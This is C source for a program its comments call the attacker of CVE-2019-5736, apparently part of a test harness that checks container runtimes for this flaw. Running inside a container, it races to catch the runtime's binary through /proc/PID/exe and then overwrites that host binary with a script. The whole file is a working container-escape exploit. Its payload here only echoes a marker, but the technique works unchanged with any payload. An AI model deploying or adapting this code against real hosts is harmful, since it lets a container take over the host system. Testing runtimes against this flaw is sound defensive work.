// exe-grabber — the attacker of CVE-2019-5736 (used by t-attacks.sh), run inside a container
// (built static, so it needs nothing from the image).
//
//     exe-grabber OUTDIR SECONDS
//
// Watches the container's pid namespace for a process whose /proc/PID/exe is neither
// busybox nor itself (that is: the runtime's binary, run by the kernel as the interpreter of
// a "#!/proc/self/exe" script the runtime was made to exec). It spins on the next few pids
// to come (pids are handed out in order) and on those it could not open yet (the runtime's
// non-dumpable child, until it execs), so even a process living a millisecond is caught;
// it rescans /proc every few milliseconds for older ones. Once it holds such an exe open
// it releases /preload-fifo (if the image has one: see lib/attacks.sh), then retries to
// reopen the exe for writing through /proc/self/fd/N (ETXTBSY while anything still runs
// it) and overwrites it. Log lines in OUTDIR/log:
//   DENIED PID           could not open /proc/PID/exe (a non-dumpable process, e.g. init
//                        of a created container)
//   OPENED PID           holds the exe of PID open
//   WROTE | WRITE-FAILED ERRNO-TEXT | NOT-FOUND
// OUTDIR/scanning is written at start, OUTDIR/done at the end. Exit status 0.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static char outdir[512];
static struct stat busybox_st, self_st;

static void logf_(const char *fmt, ...) {
	char path[600], line[256];
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(line, sizeof line, fmt, ap);
	va_end(ap);
	snprintf(path, sizeof path, "%s/log", outdir);
	FILE *f = fopen(path, "a");
	if (f) {
		fprintf(f, "%s\n", line);
		fclose(f);
	}
}

static void touch(const char *name, const char *text) {
	char path[600];
	snprintf(path, sizeof path, "%s/%s", outdir, name);
	FILE *f = fopen(path, "w");
	if (f) {
		fputs(text, f);
		fclose(f);
	}
}

static double now(void) {
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

#define MAXDENIED 64
static int denied[MAXDENIED], ndenied;

// open /proc/PID/exe; -1 when absent, not openable, or busybox/ourselves
static int try_pid(int pid) {
	char path[64];
	if (pid == getpid()) return -1;
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		if (errno == EACCES || errno == EPERM) {
			for (int i = 0; i < ndenied; ++i)
				if (denied[i] == pid) return -1;
			if (ndenied < MAXDENIED) {
				denied[ndenied++] = pid;
				logf_("DENIED %d", pid);
			}
		}
		return -1;
	}
	struct stat st;
	if (fstat(fd, &st) < 0 || (st.st_dev == busybox_st.st_dev && st.st_ino == busybox_st.st_ino) ||
	    (st.st_dev == self_st.st_dev && st.st_ino == self_st.st_ino)) {
		close(fd);
		return -1;
	}
	return fd;
}

static int scan(int *highest) {
	DIR *d = opendir("/proc");
	if (!d) return -1;
	struct dirent *e;
	int got = -1;
	while ((e = readdir(d))) {
		int pid = atoi(e->d_name);
		if (pid <= 0) continue;
		if (pid > *highest) *highest = pid;
		if (got < 0) {
			int fd = try_pid(pid);
			if (fd >= 0) {
				got = fd;
				logf_("OPENED %d", pid);
			}
		}
	}
	closedir(d);
	return got;
}

int main(int argc, char **argv) {
	if (argc != 3) {
		fprintf(stderr, "usage: exe-grabber OUTDIR SECONDS\n");
		return 2;
	}
	snprintf(outdir, sizeof outdir, "%s", argv[1]);
	double deadline = now() + atof(argv[2]);
	stat("/bin/busybox", &busybox_st);
	stat("/proc/self/exe", &self_st);
	touch("scanning", "1\n");
	int highest = 0, fd = -1;
	double next_scan = 0;
	while (fd < 0 && now() < deadline) {
		if (now() >= next_scan) {
			fd = scan(&highest);
			next_scan = now() + 0.005;
			if (fd >= 0) break;
		}
		// The next pids to come, and those refused so far: a runtime process is refused
		// until it execs, and then (if it execs its own binary) it is the one to catch.
		for (int i = 0; i < ndenied && fd < 0; ++i) {
			fd = try_pid(denied[i]);
			if (fd >= 0) logf_("OPENED %d", denied[i]);
		}
		for (int pid = highest + 1; pid <= highest + 8 && fd < 0; ++pid) {
			fd = try_pid(pid);
			if (fd >= 0) logf_("OPENED %d", pid);
		}
	}
	if (fd < 0) {
		logf_("NOT-FOUND");
		touch("done", "1\n");
		return 0;
	}
	// Release a runtime binary blocked in ld.so on the preload FIFO (dynamic binaries).
	int ff = open("/preload-fifo", O_WRONLY | O_NONBLOCK | O_CLOEXEC);
	if (ff >= 0) {
		if (write(ff, "\n", 1) < 0) {
		}
		close(ff);
	}
	char self_fd[64];
	snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fd);
	int err = 0;
	for (int i = 0; i < 1000; ++i) {
		int w = open(self_fd, O_WRONLY | O_TRUNC | O_CLOEXEC);
		if (w >= 0) {
			const char payload[] = "#!/bin/sh\necho PWNED-BY-CONTAINER\n";
			ssize_t n = write(w, payload, sizeof payload - 1);
			close(w);
			if (n == (ssize_t)(sizeof payload - 1)) {
				logf_("WROTE");
				touch("done", "1\n");
				return 0;
			}
			err = errno;
			break;
		}
		err = errno;
		if (err != ETXTBSY) break;
		usleep(10000);
	}
	logf_("WRITE-FAILED %s", strerror(err));
	touch("done", "1\n");
	return 0;
}
